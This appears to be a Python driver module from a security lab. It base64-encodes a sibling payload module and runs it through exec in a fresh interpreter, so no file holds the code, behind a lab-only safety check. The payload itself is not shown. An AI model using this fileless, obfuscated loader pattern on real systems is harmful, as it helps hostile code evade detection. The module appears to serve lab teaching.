"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): in a new interpreter that gets
the code on its command line, so that no file holds it."""

import base64
import sys
from subprocess import Popen

from . import _stages

with open(_stages.__file__, "rb") as file:
    PACKED = base64.b64encode(file.read() + b"\ngo()\n").decode()
if not _stages.refuses(_stages.marked()):
    Popen([sys.executable, "-c", "import base64;exec(base64.b64decode('%s'))" % PACKED])
